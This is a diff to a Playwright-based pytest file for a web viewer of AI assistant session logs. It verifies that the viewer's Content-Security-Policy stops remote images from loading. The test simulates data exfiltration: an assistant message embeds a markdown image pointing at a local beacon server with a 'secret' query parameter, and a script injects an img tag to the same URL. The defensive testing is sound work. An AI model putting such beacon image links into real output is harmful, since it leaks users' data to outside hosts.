@@ -2,10 +2,12 @@
 
 from __future__ import annotations
 
+import http.server
 import os
 import socket
 import subprocess
 import sys
+import threading
 import time
 from collections.abc import Iterator
 from pathlib import Path
@@ -15,6 +17,7 @@ import pytest
 from serve_helpers import SCRIPT, populate
 
 from codex_cli.settings import Settings
+from codex_cli.store.writer import SessionLogger
 
 CHROMIUM = Path("/usr/bin/chromium")
 
@@ -78,6 +81,7 @@ def test_search_open_a_session_and_nothing_runs(server: str, tmp_path: Path) -> 
     from playwright.sync_api import expect, sync_playwright
 
     dialogs: list[str] = []
+    console: list[str] = []
     with sync_playwright() as playwright:
         browser = playwright.chromium.launch(
             executable_path=str(CHROMIUM),
@@ -94,6 +98,8 @@ def test_search_open_a_session_and_nothing_runs(server: str, tmp_path: Path) -> 
                 "dialog",
                 lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()),
             )
+            # Our own pages' scripts all run under the Content-Security-Policy.
+            page.on("console", lambda msg: console.append(msg.text))
 
             # Home: search for a word with datasette-search-all's box
             page.goto(server + "/")
@@ -148,7 +154,87 @@ def test_search_open_a_session_and_nothing_runs(server: str, tmp_path: Path) -> 
                 page.locator("#codex-activity-chart canvas, #codex-activity-chart svg")
             ).to_have_count(1)
             page.screenshot(path=str(tmp_path / "activity.png"), full_page=True)
+
+            # The SQL editor (CodeMirror, inline start-up script) still starts
+            page.goto(server + "/log?sql=select+count(*)+from+events")
+            expect(page.locator(".CodeMirror")).to_have_count(1)
+            expect(page.locator("table.rows-and-columns")).to_contain_text("14")
         finally:
             browser.close()
+    assert [m for m in console if "Content Security Policy" in m] == []
     assert dialogs == []
     assert (tmp_path / "session.png").stat().st_size > 10_000
+
+
+class Beacon(http.server.BaseHTTPRequestHandler):
+    """A foreign origin that records what the browser fetched from it."""
+
+    hits: list[str] = []
+
+    def do_GET(self) -> None:  # noqa: N802 - http.server's name
+        Beacon.hits.append(self.path)
+        self.send_response(200)
+        self.send_header("Content-Type", "image/png")
+        self.end_headers()
+
+    def log_message(self, *args: object) -> None:
+        pass
+
+
+@pytest.fixture
+def beacon() -> Iterator[str]:
+    Beacon.hits = []
+    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Beacon)
+    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{httpd.server_address[1]}"
+    finally:
+        httpd.shutdown()
+        httpd.server_close()
+
+
+def test_remote_images_are_links_and_nothing_foreign_loads(
+    server: str, beacon: str, settings: Settings
+) -> None:
+    from playwright.sync_api import expect, sync_playwright
+
+    url = f"{beacon}/beacon.png?secret=s3cr3t"
+    with SessionLogger("img-1", settings=settings) as logger:
+        logger.log("assistant", f"The plot: ![loss curve]({url})")
+    violations: list[str] = []
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(
+            executable_path=str(CHROMIUM),
+            args=[
+                "--headless",
+                "--no-sandbox",
+                "--disable-gpu",
+                "--disable-background-networking",
+            ],
+        )
+        try:
+            page = browser.new_page()
+            page.on("console", lambda msg: violations.append(msg.text))
+            for path in ("/-/sessions/img-1", "/log/events?session_id=img-1"):
+                page.goto(server + path)
+                link = page.locator("a.codex-image-link").first
+                expect(link).to_have_text("[image: loss curve]")
+                expect(link).to_have_attribute("href", url)
+                expect(page.locator(f'img[src^="{beacon}"]')).to_have_count(0)
+            # Even an image put in the page by a script is not fetched (CSP)
+            blocked = page.evaluate(
+                """url => new Promise(done => {
+                    document.addEventListener("securitypolicyviolation",
+                        e => done(e.violatedDirective), {once: true});
+                    const img = document.createElement("img");
+                    img.src = url + "&injected=1";
+                    document.body.appendChild(img);
+                })""",
+                url,
+            )
+            assert blocked.startswith("img-src")
+        finally:
+            browser.close()
+    assert Beacon.hits == []
+    assert any("Content Security Policy" in m for m in violations)
